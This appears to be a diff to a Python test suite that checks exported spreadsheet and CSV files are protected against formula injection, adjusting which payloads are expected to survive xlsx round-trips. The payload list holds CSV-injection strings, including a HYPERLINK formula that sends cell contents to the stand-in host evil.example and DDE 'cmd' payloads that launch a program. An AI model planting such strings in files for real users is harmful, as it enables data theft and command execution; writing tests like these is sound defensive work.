@@ -27,6 +27,9 @@ from mujun.store.models import Enterprise, RunResult
 PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点此")', "=cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 
+#: the payloads an xlsx keeps character for character (XML turns a lone CR into a line feed)
+PLAIN = {p for p in PAYLOADS if "\r" not in p}
+
 
 def payload(i: int) -> str:
     return PAYLOADS[i % len(PAYLOADS)]
@@ -73,7 +76,7 @@ def _results() -> pa.Table:
 def test_results_xlsx_has_no_formula(tmp_path: Path) -> None:
     path = write_results(_results(), tmp_path / "r.xlsx")
     assert formula_cells(path) == []
-    assert set(PAYLOADS) <= texts(path)
+    assert PLAIN <= texts(path)
 
 
 def test_results_csv_text_cannot_start_a_formula(tmp_path: Path) -> None:
@@ -95,4 +98,4 @@ def test_notice_list_and_error_report_have_no_formula(tmp_path: Path) -> None:
     report = write_error_report(tmp_path / "e.xlsx", [
         Problem(p, i, p, p, p) for i, p in enumerate(PAYLOADS)], title=PAYLOADS[0])
     assert formula_cells(report) == []
-    assert set(PAYLOADS) <= texts(report)
+    assert PLAIN <= texts(report)
